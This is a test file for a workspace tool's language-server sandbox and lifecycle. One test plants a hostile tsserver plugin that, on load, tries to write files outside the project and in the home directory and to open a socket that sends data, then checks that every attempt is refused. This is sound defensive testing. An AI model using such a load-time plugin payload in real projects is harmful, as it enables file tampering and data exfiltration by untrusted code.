/**
 * Issue 30 item 3 and item 2's lifecycle, with the real servers: the language server is untrusted code's
 * neighbour. A hostile project (its own node_modules/typescript, a tsconfig naming a tsserver plugin from
 * its node_modules) tries to write outside and inside the root and to reach a loopback server this spec
 * runs: nothing is written, nothing is received, and the action answers. Killing the server mid-request
 * fails the call LANGUAGE_SERVER_FAILED within its deadline and the next call starts it again; an idle
 * server is stopped; the workspace's close stops it; commandSandbox=required without bubblewrap refuses;
 * the memory host refuses with the layer-unavailable error.
 */
import { execFile } from "node:child_process"
import * as fs from "node:fs"
import * as net from "node:net"
import * as os from "node:os"
import * as path from "node:path"
import { afterAll, describe, expect, it } from "vitest"
import { openWorkspace as openEmbedded } from "../../adapters/embed/index.ts"
import { inspect, ok } from "../inspect/support.ts"
import { BIN, makeTempDir, openWorkspace, REPO, snapshotTree, type TempWorkspace } from "../support/workspace.ts"

const cleanup: Array<() => Promise<void> | void> = []
afterAll(async () => {
  for (const step of cleanup.reverse()) await step()
})

const REAL_TS = path.join(REPO, "node_modules/typescript")

/**
 * The project's own typescript: the real one's JavaScript copied (tsserver resolves plugins from beside the
 * file it runs, so a copy in the project loads the project's plugins, as a real install would), the rest linked.
 */
const plantTypescript = (root: string) => {
  const target = path.join(root, "node_modules/typescript")
  fs.mkdirSync(path.join(target, "lib"), { recursive: true })
  fs.copyFileSync(path.join(REAL_TS, "package.json"), path.join(target, "package.json"))
  for (const name of fs.readdirSync(path.join(REAL_TS, "lib"))) {
    const from = path.join(REAL_TS, "lib", name)
    const to = path.join(target, "lib", name)
    if (name.endsWith(".js") && name !== "_tsc.js" && name !== "tsc.js") fs.copyFileSync(from, to)
    else fs.symlinkSync(from, to)
  }
}

/** A tsserver plugin in the project's node_modules, its code `body` run when tsserver loads it. */
const plantPlugin = (root: string, name: string, body: string) => {
  const dir = path.join(root, "node_modules", name)
  fs.mkdirSync(dir, { recursive: true })
  fs.writeFileSync(path.join(dir, "package.json"), JSON.stringify({ name, version: "1.0.0", main: "index.js" }))
  fs.writeFileSync(path.join(dir, "index.js"), body)
}

const writeProject = (root: string, plugins: ReadonlyArray<string>) => {
  fs.mkdirSync(path.join(root, "src"), { recursive: true })
  fs.writeFileSync(
    path.join(root, "tsconfig.json"),
    JSON.stringify({
      compilerOptions: { strict: true, noEmit: true, types: [], plugins: plugins.map((name) => ({ name })) },
      include: ["src"]
    })
  )
  fs.writeFileSync(path.join(root, "src/a.ts"), "export function hello(): number {\n  return 1\n}\nhello()\n")
}

/** Host pids of the processes whose command line contains `needle` and whose working directory is `root`. */
const processesIn = (root: string, needle: string): Array<number> =>
  fs.readdirSync("/proc").flatMap((entry) => {
    if (!/^\d+$/.test(entry)) return []
    try {
      const cmdline = fs.readFileSync(`/proc/${entry}/cmdline`, "utf8")
      // The node process itself, not the bubblewrap processes whose arguments name it too.
      if (!cmdline.includes(needle) || path.basename(cmdline.split("\0")[0]!) !== path.basename(process.execPath))
        return []
      return fs.readlinkSync(`/proc/${entry}/cwd`) === root ? [Number(entry)] : []
    } catch {
      return []
    }
  })

const TLS = "typescript-language-server/lib/cli.mjs"

const waitFor = async (what: string, check: () => boolean, ms: number) => {
  const until = Date.now() + ms
  while (!check()) {
    if (Date.now() > until) throw new Error(`timed out waiting for ${what}`)
    await new Promise((resolve) => setTimeout(resolve, 100))
  }
}

describe("a hostile project: a planted tsserver plugin tries to write and to connect", () => {
  it("nothing is written outside or inside the root, the loopback server receives nothing, and diagnostics still answer (the plugin's own report shows what it was refused)", async () => {
    const received: Array<string> = []
    let connections = 0
    const server = net.createServer((socket) => {
      connections++
      socket.on("data", (chunk) => received.push(chunk.toString()))
    })
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve))
    cleanup.push(() => new Promise<void>((resolve) => server.close(() => resolve())))
    const port = (server.address() as net.AddressInfo).port
    const outside = await makeTempDir("aw-outside-")
    cleanup.push(() => fs.rmSync(outside, { recursive: true, force: true }))
    const inHome = path.join(os.homedir(), `.aw-evil-${process.pid}-${Date.now()}`)
    cleanup.push(() => fs.rmSync(inHome, { force: true }))
    const ws = await openWorkspace({ permissionMode: 2 })
    cleanup.push(() => ws.dispose())
    writeProject(ws.dir, ["evil-plugin"])
    plantTypescript(ws.dir)
    const targets = [
      path.join(outside, "pwned"),
      inHome,
      path.join(ws.dir, "pwned-inside"),
      path.join(ws.dir, "src/pwned.ts")
    ]
    plantPlugin(
      ws.dir,
      "evil-plugin",
      `const fs = require("fs"), net = require("net")
const report = []
for (const target of ${JSON.stringify(targets)}) {
  try { fs.writeFileSync(target, "pwned"); report.push("wrote " + target) } catch (e) { report.push(e.code) }
}
const socket = net.connect(${port}, "127.0.0.1", () => { report.push("connected"); socket.write("pwned") })
socket.on("error", (e) => report.push("socket " + e.code))
module.exports = () => ({
  create(info) {
    const service = info.languageService
    return { ...service, getSemanticDiagnostics(file) {
      const found = service.getSemanticDiagnostics(file)
      const source = service.getProgram().getSourceFile(file)
      return [...found, { file: source, start: 0, length: 1, category: 1, code: 99999, messageText: "evil-plugin ran: " + report.join(", ") }]
    } }
  }
})
`
    )
    const before = await snapshotTree(ws.dir)
    const envelope = await ok(ws, { action: "diagnostics", path: "src/a.ts" })
    const planted = envelope.data.diagnostics.find((d: { code?: string }) => d.code === "99999")
    // The plugin ran inside the server (its report is in the answer), and every attempt was refused.
    expect(planted?.message).toMatch(/^evil-plugin ran: /)
    expect(planted.message).not.toContain("wrote")
    expect(planted.message).toContain("EROFS")
    expect(envelope.data.servers[0]).toMatchObject({ name: "typescript-language-server", sandboxed: true })
    await new Promise((resolve) => setTimeout(resolve, 1000))
    expect(planted.message).not.toContain("connected")
    expect(connections).toBe(0)
    expect(received).toEqual([])
    for (const target of targets) expect(fs.existsSync(target), target).toBe(false)
    const after = await snapshotTree(ws.dir)
    expect(after).toEqual(before)
  }, 180_000)
})

describe("the server's lifecycle", () => {
  it("killed mid-request: the call fails LANGUAGE_SERVER_FAILED (crashed, with its stderr) within its deadline; the next call starts it again", async () => {
    const ws = await openWorkspace({ permissionMode: 1, languageServerTimeoutMs: 60_000 })
    cleanup.push(() => ws.dispose())
    writeProject(ws.dir, ["slow-plugin"])
    plantTypescript(ws.dir)
    // References take 20 s: the request is surely in flight when the server is killed.
    plantPlugin(
      ws.dir,
      "slow-plugin",
      `module.exports = () => ({ create(info) { const s = info.languageService; return { ...s, findReferences(...args) {
  Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 20000); return s.findReferences(...args) } } } })`
    )
    await ok(ws, { action: "symbols", path: "src/a.ts" })
    const [first] = processesIn(ws.dir, TLS)
    expect(first).toBeDefined()
    const started = Date.now()
    const pending = inspect(ws, { action: "references", path: "src/a.ts", line: 1, column: 17 })
    await new Promise((resolve) => setTimeout(resolve, 1500))
    process.kill(first!, "SIGKILL")
    const failed = await pending
    const elapsed = Date.now() - started
    expect(failed.ok).toBe(false)
    expect(failed.error?.code).toBe("LANGUAGE_SERVER_FAILED")
    expect(failed.error?.details?.reason).toBe("crashed")
    expect(failed.error?.message).toContain("killed")
    expect(elapsed).toBeLessThan(60_000)
    await waitFor("the killed server's namespace to end", () => processesIn(ws.dir, TLS).length === 0, 10_000)
    const again = await ok(ws, { action: "symbols", path: "src/a.ts" })
    expect(again.data.symbols.map((s: { name: string }) => s.name)).toContain("hello")
    const [second] = processesIn(ws.dir, TLS)
    expect(second).toBeDefined()
    expect(second).not.toBe(first)
  }, 180_000)

  it("an idle server is stopped after languageServerIdleMinutes (0.05: 3 s) and started again on the next call; closing the workspace stops it", async () => {
    const ws: TempWorkspace = await openWorkspace({ languageServerIdleMinutes: 0.05 })
    cleanup.push(() => ws.dispose())
    writeProject(ws.dir, [])
    await ok(ws, { action: "symbols", path: "src/a.ts" })
    expect(processesIn(ws.dir, TLS)).toHaveLength(1)
    await waitFor("the idle server to stop", () => processesIn(ws.dir, TLS).length === 0, 30_000)
    await ok(ws, { action: "definition", path: "src/a.ts", line: 4, column: 1 })
    expect(processesIn(ws.dir, TLS)).toHaveLength(1)
    const reopened = await ws.reopen({ languageServerIdleMinutes: 60 })
    cleanup.push(() => reopened.dispose())
    await waitFor("the closed workspace's server to stop", () => processesIn(ws.dir, TLS).length === 0, 10_000)
  }, 180_000)
})

describe("hosts and the commandSandbox setting", () => {
  it("the memory host refuses with the layer-unavailable error (TOOL_DISABLED naming the service), never a cast", async () => {
    const session = await openEmbedded({ root: "/workspace", host: "memory" })
    cleanup.push(() => session.close())
    for (const args of [
      { action: "symbols", path: "a.ts" },
      { action: "definition", symbol: "x" },
      { action: "references", path: "a.ts", line: 1, column: 1 },
      { action: "diagnostics" }
    ]) {
      const envelope = (await session.call("workspace_inspect", args)) as { ok: boolean; error?: any }
      expect(envelope.ok).toBe(false)
      expect(envelope.error.code).toBe("TOOL_DISABLED")
      expect(envelope.error.details).toEqual({ runtime: "memory", service: "LanguageServers" })
      expect(envelope.error.message).toContain("Node host")
    }
  }, 60_000)

  it("without bubblewrap: required refuses (SANDBOX_UNAVAILABLE, nothing started); auto runs the server unconfined and says why", async () => {
    const root = await makeTempDir("aw-code-nobwrap-")
    cleanup.push(() => fs.rmSync(root, { recursive: true, force: true }))
    writeProject(root, [])
    const bin = await makeTempDir("aw-path-")
    cleanup.push(() => fs.rmSync(bin, { recursive: true, force: true }))
    fs.symlinkSync(process.execPath, path.join(bin, "node"))
    const call = (sandbox: string) =>
      new Promise<Record<string, any>>((resolve) =>
        execFile(
          process.execPath,
          [
            BIN,
            "call",
            "workspace_inspect",
            JSON.stringify({ action: "symbols", path: "src/a.ts" }),
            "--set",
            `commandSandbox=${sandbox}`,
            "--root",
            root
          ],
          { cwd: REPO, env: { ...process.env, PATH: bin } },
          (_error, stdout) => resolve(JSON.parse(stdout))
        )
      )
    const required = await call("required")
    expect(required["ok"]).toBe(false)
    expect(required["error"]["code"]).toBe("SANDBOX_UNAVAILABLE")
    expect(required["error"]["message"]).toContain('commandSandbox is "required"')
    const auto = await call("auto")
    expect(auto["ok"], JSON.stringify(auto)).toBe(true)
    expect(auto["data"]["server"]).toMatchObject({ sandboxed: false })
    expect(auto["data"]["server"]["unconfinedReason"]).toContain("bubblewrap (bwrap) is not installed")
  }, 180_000)
})
